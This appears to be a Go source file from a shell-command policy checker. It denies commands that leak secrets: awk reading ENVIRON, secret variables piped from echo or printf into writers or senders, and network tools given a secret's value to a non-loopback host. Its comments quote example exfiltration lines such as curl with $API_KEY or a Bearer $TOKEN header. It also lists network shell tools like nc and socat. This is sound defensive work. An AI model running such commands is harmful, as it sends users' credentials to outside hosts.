package policy

import (
	"net/url"
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// A secret's value carried off, whatever program prints or sends it
// (generalising secretwrite.go's echo/printf into a file):
//
//   - an awk program reading ENVIRON is a dump of the environment, as
//     perl's %ENV, python's os.environ, node's process.env and ruby's ENV
//     are (inlineenv.go): into a file or a sink it is denied (dumpenv.go);
//   - a printer (echo, printf, or cat/tee given a here-string) of a
//     secret-named variable piped into a program that writes or sends;
//   - a network program given a secret-named variable's value in any
//     argument or here-string: curl "https://x/?k=$API_KEY", curl -H
//     "Authorization: Bearer $TOKEN" https://x, wget "…$GITHUB_TOKEN",
//     unless every address it names is the loopback.
//
// The variable is one the line did not bind (secretExpanded).

// awkNames are the awk implementations.
var awkNames = wordSet{words: []string{"awk", "gawk", "mawk", "nawk", "busybox-awk", "goawk"}}

// awkEnvDump reports an awk program that reads ENVIRON (or gawk's
// PROCINFO["environ"]-style reads): it prints the environment as env does.
func awkEnvDump(argv []string) (string, bool) {
	if len(argv) < 2 || !awkNames.has(argv[0]) {
		return "", false
	}
	for i := 1; i < len(argv); i++ {
		a := argv[i]
		switch {
		case a == "--":
			if i+1 < len(argv) && containsWord(argv[i+1], "ENVIRON") {
				return argv[0] + " ENVIRON", true
			}
			return "", false
		case a == "-F" || a == "-v" || a == "--assign" || a == "--field-separator":
			i++
		case a == "-e" || a == "--source":
			if i+1 < len(argv) && containsWord(argv[i+1], "ENVIRON") {
				return argv[0] + " ENVIRON", true
			}
			i++
		case a == "-f" || strings.HasPrefix(a, "--file"):
			return "", false // the program is in a file
		case strings.HasPrefix(a, "-") && len(a) > 1:
		default:
			if containsWord(a, "ENVIRON") {
				return argv[0] + " ENVIRON", true
			}
			return "", false
		}
	}
	return "", false
}

// netSenders are programs that send their arguments over the network.
var netSenders = wordSet{words: []string{"curl", "wget", "http", "https", "xh", "httpie", "aria2c", "nc", "ncat", "netcat",
	"socat", "telnet", "ftp", "tftp", "lynx", "links", "w3m", "openssl", "ssh", "scp", "sftp", "rsync", "mail", "mailx", "sendmail"}}

// secretPrinters print their arguments.
var secretPrinters = wordSet{words: []string{"echo", "printf", "print"}}

// judgeSecretSends denies a secret's value given to a network program or
// piped from a printer into a program that writes or sends.
func (c *checkEnv) judgeSecretSends(s *src, f *syntax.File, bound map[string]bool) {
	syntax.Walk(f, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.Stmt:
			call, ok := x.Cmd.(*syntax.CallExpr)
			if !ok || len(call.Args) == 0 {
				return true
			}
			argv := stripDumpWrappers(c.staticArgv(call))
			if len(argv) == 0 || !netSenders.has(argv[0]) {
				return true
			}
			name := secretExpanded(call.Args[1:], bound)
			if name == "" {
				name = secretInHereString(x.Redirs, bound)
			}
			if name != "" && !allLoopback(argv[1:]) {
				c.addPart(Part{Text: s.slice(x), Via: "dump", Decision: Deny, Rule: RuleEnvDumpSink,
					Reason: argv[0] + " sends $" + name + ", a secret's value, over the network"})
			}
		case *syntax.BinaryCmd:
			if x.Op != syntax.Pipe && x.Op != syntax.PipeAll {
				return true
			}
			stages := pipeStages(x)
			for i, st := range stages {
				name := c.printsSecret(st, bound)
				if name == "" {
					continue
				}
				for _, later := range stages[i+1:] {
					call, ok := later.Cmd.(*syntax.CallExpr)
					if c.writesFile(later.Redirs) || ok && c.isSink(call) {
						c.addPart(Part{Text: s.slice(x), Via: "dump", Decision: Deny, Rule: RuleEnvDumpSink,
							Reason: "pipes $" + name + ", a secret's value, into a file or a program that writes or sends it"})
						return false
					}
				}
			}
			return false // the stages were read here
		}
		return true
	})
}

// printsSecret names the secret a printer stage prints: echo "$KEY",
// printf %s "$KEY", cat <<< "$KEY".
func (c *checkEnv) printsSecret(st *syntax.Stmt, bound map[string]bool) string {
	call, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(call.Args) == 0 {
		return ""
	}
	// the program as every side reader sees it (dumpenv.go staticArgv):
	// $(echo cat) <<< "$KEY" > k.txt is cat's
	if argv := c.staticArgv(call); len(argv) > 0 && secretPrinters.has(programBase(argv[0])) {
		if name := secretExpanded(call.Args[1:], bound); name != "" {
			return name
		}
	}
	return secretInHereString(st.Redirs, bound)
}

// secretInHereString names a secret a here-string or unquoted
// here-document expands.
func secretInHereString(rs []*syntax.Redirect, bound map[string]bool) string {
	for _, r := range rs {
		switch r.Op {
		case syntax.WordHdoc:
			if name := secretExpanded([]*syntax.Word{r.Word}, bound); name != "" {
				return name
			}
		case syntax.Hdoc, syntax.DashHdoc:
			if r.Hdoc != nil {
				if name := secretExpanded([]*syntax.Word{r.Hdoc}, bound); name != "" {
					return name
				}
			}
		}
	}
	return ""
}

// allLoopback reports that every address among a network program's
// arguments is the loopback (and there is at least one).
func allLoopback(args []string) bool {
	n := 0
	for _, a := range args {
		if strings.HasPrefix(a, "-") {
			continue
		}
		if strings.Contains(a, "://") {
			if !loopbackURL(a) {
				return false
			}
			n++
			continue
		}
		if strings.ContainsAny(a, " \t=@\"'") || !strings.ContainsAny(a, ".:") {
			continue // a header, a form field, a port: not an address
		}
		if u, err := url.Parse("http://" + a); err == nil && u.Hostname() != "" {
			if !loopbackURL(a) && !loopbackHost(a) {
				return false
			}
			n++
		}
	}
	return n > 0
}
